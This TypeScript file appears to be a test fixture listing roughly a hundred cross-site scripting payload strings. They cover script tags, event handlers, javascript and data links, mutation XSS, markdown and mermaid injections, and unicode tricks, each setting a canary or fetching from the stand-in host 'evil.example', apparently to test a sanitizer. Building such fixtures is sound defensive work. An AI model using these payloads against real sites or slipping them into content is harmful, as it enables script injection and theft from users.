// table: shapes in which a page has been made to run or fetch something, each with the canary that tells.

/** What a payload sets when it runs. */
export const CANARY = "__taken"
/** Where a payload calls when it fetches; nothing may ever go there. */
export const ELSEWHERE = "evil.example"

export interface Payload {
  readonly name: string
  readonly text: string
}

const run = `window.${CANARY}=1`
const call = `//${ELSEWHERE}`

export const XSS: readonly Payload[] = [
  // Elements that run
  { name: "script", text: `<script>${run}</script>` },
  { name: "script in odd case", text: `<ScRiPt >${run}</sCrIpT >` },
  { name: "script with a source", text: `<script src="https:${call}/x.js"></script>` },
  { name: "script as a module", text: `<script type="module">${run}</script>` },
  { name: "script closed by a slash", text: `<script/x>${run}</script/x>` },
  { name: "script in a script", text: `<scr<script>ipt>${run}</scr</script>ipt>` },
  { name: "script never closed", text: `<script>${run}//` },
  { name: "script with a null in it", text: `<scr ipt>${run}</scr ipt>` },
  // Handlers
  { name: "img onerror", text: `<img src=x onerror=${run}>` },
  { name: "img onerror without spaces", text: `<img/src=x/onerror=${run}>` },
  { name: "img onerror in odd case", text: `<IMG SRC=x OnErRoR="${run}">` },
  { name: "img with backticks", text: "<img src=`x` onerror=`" + run + "`>" },
  { name: "svg onload", text: `<svg onload=${run}>` },
  { name: "body onload", text: `<body onload=${run}>` },
  { name: "input autofocus", text: `<input autofocus onfocus=${run}>` },
  { name: "details ontoggle", text: `<details open ontoggle=${run}>x</details>` },
  { name: "video source onerror", text: `<video><source onerror=${run}></video>` },
  { name: "audio onerror", text: `<audio src=x onerror=${run}>` },
  { name: "marquee onstart", text: `<marquee onstart=${run}>x</marquee>` },
  {
    name: "animation events",
    text: `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${run}></b>`,
  },
  { name: "pointer events", text: `<b onpointerover=${run} onmouseover=${run}>over me</b>` },
  { name: "popover", text: `<button popovertarget=x>x</button><p popover id=x onbeforetoggle=${run}>x</p>` },
  { name: "select autofocus", text: `<select autofocus onfocus=${run}><option>x</select>` },
  // Addresses
  { name: "javascript link", text: `<a href="javascript:${run}">x</a>` },
  { name: "javascript link with entities", text: `<a href="&#106;&#97;vascript:${run}">x</a>` },
  { name: "javascript link with tab and line break", text: `<a href="java\tscr\nipt:${run}">x</a>` },
  { name: "javascript link with a control sign before", text: `<a href=" \u0001javascript:${run}">x</a>` },
  { name: "data link", text: `<a href="data:text/html,<script>${run}</script>">x</a>` },
  {
    name: "data link in base64",
    text: `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX190YWtlbj0xPC9zY3JpcHQ+">x</a>`,
  },
  { name: "vbscript link", text: `<a href="vbscript:msgbox(1)">x</a>` },
  { name: "form action", text: `<form action="javascript:${run}"><button>x</button></form>` },
  { name: "button formaction", text: `<form><button formaction="javascript:${run}">x</button></form>` },
  { name: "base", text: `<base href="https:${call}/">` },
  { name: "meta refresh", text: `<meta http-equiv="refresh" content="0;url=https:${call}/">` },
  { name: "link stylesheet", text: `<link rel="stylesheet" href="https:${call}/x.css">` },
  { name: "link preload", text: `<link rel="preload" as="script" href="https:${call}/x.js">` },
  // Frames and objects
  { name: "iframe", text: `<iframe src="https:${call}/"></iframe>` },
  { name: "iframe javascript", text: `<iframe src="javascript:parent.${CANARY}=1"></iframe>` },
  { name: "iframe srcdoc", text: `<iframe srcdoc="<script>parent.${CANARY}=1</script>"></iframe>` },
  { name: "object", text: `<object data="javascript:${run}"></object>` },
  { name: "embed", text: `<embed src="https:${call}/x.swf">` },
  { name: "template and slot", text: `<template shadowrootmode=open><img src=x onerror=${run}></template>` },
  // Pictures and styles that fetch
  { name: "picture from elsewhere", text: `<img src="https:${call}/pixel.png">` },
  { name: "picture set from elsewhere", text: `<img srcset="https:${call}/pixel.png 1x">` },
  {
    name: "style that fetches",
    text: `<style>@import "https:${call}/x.css"; body{background:url(https:${call}/y)}</style>`,
  },
  { name: "style attribute that fetches", text: `<b style="background:url(https:${call}/z)">x</b>` },
  { name: "style with an old expression", text: `<b style="width:expression(${run})">x</b>` },
  // SVG and MathML
  { name: "svg script", text: `<svg><script>${run}</script></svg>` },
  { name: "svg script with href", text: `<svg><script href="https:${call}/x.js"/></svg>` },
  {
    name: "svg animate to javascript",
    text: `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=20>x</text></a></svg>`,
  },
  { name: "svg set onbegin", text: `<svg><set onbegin=${run} attributeName=x dur=1s></svg>` },
  {
    name: "svg foreign object",
    text: `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${run}"/></foreignObject></svg>`,
  },
  {
    name: "svg use",
    text: `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${run}'/></svg>#x"/></svg>`,
  },
  { name: "svg style", text: `<svg><style><img src=x onerror=${run}></style></svg>` },
  {
    name: "mathml action",
    text: `<math><maction actiontype="statusline#http:${call}" href="javascript:${run}">x</maction></math>`,
  },
  { name: "mathml link", text: `<math href="javascript:${run}"><mi>x</mi></math>` },
  // Text that changes when it is parsed twice
  { name: "mutation through a title", text: `<svg></p><style><a id="</style><img src=x onerror=${run}>">` },
  { name: "mutation through noscript", text: `<noscript><p title="</noscript><img src=x onerror=${run}>">` },
  { name: "mutation through textarea", text: `<textarea></textarea><img src=x onerror=${run}></textarea>` },
  {
    name: "mutation through math",
    text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  },
  {
    name: "mutation through a table",
    text: `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
  },
  { name: "mutation through xmp", text: `<xmp><p title="</xmp><img src=x onerror=${run}>">` },
  { name: "comment that ends early", text: `<!--><img src=x onerror=${run}>-->` },
  { name: "comment that ends with a bang", text: `<!-- --!><img src=x onerror=${run}> -->` },
  { name: "cdata", text: `<![CDATA[<img src=x onerror=${run}>]]>` },
  { name: "processing instruction", text: `<?xml-stylesheet href="https:${call}/x.xsl"?><img src=x onerror=${run}>` },
  // Breaking out of what surrounds it
  { name: "out of a quoted attribute", text: `" onmouseover="${run}" autofocus onfocus="${run}` },
  { name: "out of a single-quoted attribute", text: `' onfocus='${run}' autofocus x='` },
  { name: "out of an attribute into an element", text: `"><img src=x onerror=${run}>` },
  { name: "out of a script's text", text: `</script><script>${run}</script>` },
  { name: "out of a style", text: `</style><script>${run}</script>` },
  { name: "out of a title", text: `</title><script>${run}</script>` },
  { name: "out of a textarea", text: `</textarea><script>${run}</script>` },
  { name: "out of JSON in a page", text: `\u2028${run}\u2029</script><!--` },
  // Markdown
  { name: "markdown link", text: `[x](javascript:${run})` },
  { name: "markdown link in odd case with space", text: `[x]( JaVaScRiPt:${run} )` },
  { name: "markdown link with entities", text: `[x](&#x6A;avascript:${run})` },
  { name: "markdown link with a tab", text: `[x](java&Tab;script:${run})` },
  { name: "markdown link that breaks its title", text: `[x](https://example.com "onmouseover=${run} x=")` },
  { name: "markdown link with a quote", text: `[x](https://example.com/"onmouseover="${run})` },
  { name: "markdown autolink", text: `<javascript:${run}>` },
  { name: "markdown data link", text: `[x](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)` },
  { name: "markdown picture", text: `![x](https:${call}/pixel.png)` },
  { name: "markdown picture with a script", text: `![x](javascript:${run})` },
  { name: "markdown picture that breaks its text", text: `![x" onerror="${run}](x)` },
  {
    name: "markdown picture of svg",
    text: `![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>)`,
  },
  { name: "markdown reference", text: `[x][r]\n\n[r]: javascript:${run}` },
  { name: "markdown mention that is none", text: `@[x](user:javascript:${run})` },
  { name: "markdown code language", text: '```"><img src=x onerror=' + run + ">\nx\n```" },
  { name: "markdown table", text: `| <img src=x onerror=${run}> |\n|--|\n| [x](javascript:${run}) |` },
  { name: "markdown heading", text: `# <svg onload=${run}> [x](javascript:${run})` },
  // Diagrams
  {
    name: "mermaid click",
    text:
      '```mermaid\nflowchart LR\n  a --> b\n  click a "javascript:' + run + '"\n  click b call ' + CANARY + "()\n```",
  },
  { name: "mermaid label", text: '```mermaid\nflowchart LR\n  a["<img src=x onerror=' + run + '>"] --> b\n```' },
  {
    name: "mermaid directive",
    text:
      '```mermaid\n%%{init: {"securityLevel":"loose","htmlLabels":true,"themeCSS":"@import \'https:' +
      call +
      "/m.css';\"}}%%\nflowchart LR\n  a[\"<iframe srcdoc='<script>parent." +
      CANARY +
      "=1</script>'>\"]\n```",
  },
  {
    name: "mermaid front matter",
    text:
      "```mermaid\n---\nconfig:\n  securityLevel: loose\n  flowchart:\n    htmlLabels: true\n---\nsequenceDiagram\n  A->>B: <img src=https:" +
      call +
      "/s.png onerror=" +
      run +
      ">\n```",
  },
  {
    name: "mermaid class definition",
    text: '```mermaid\nclassDiagram\n  class A["<svg onload=' + run + '>"]\n  link A "javascript:' + run + '"\n```',
  },
  // Templates and other languages
  { name: "double braces", text: `{{constructor.constructor('${run}')()}}` },
  { name: "template literal", text: "${" + run + "}`${" + run + "}`" },
  { name: "server tags", text: `<%= ${run} %><?php echo 1 ?>#{${run}}` },
  // Signs that are not what they look like
  { name: "full-width signs", text: `＜script＞${run}＜/script＞` },
  { name: "right to left", text: `\u202e>tpircs/<${run}>tpircs<\u202c <img src=x onerror=${run}>` },
  { name: "zero width", text: `<\u200bscript>${run}</script><img\u200b src=x onerror=${run}>` },
  { name: "form feed in a tag", text: `<img\fsrc=x\fonerror=${run}>` },
  { name: "entities for the whole", text: `&lt;img src=x onerror=${run}&gt; &#60;script&#62;${run}&#60;/script&#62;` },
  { name: "utf-7", text: `+ADw-script+AD4-${run}+ADw-/script+AD4-` },
  { name: "overlong line separator", text: `<img src=x\u2028onerror=${run}>` },
]
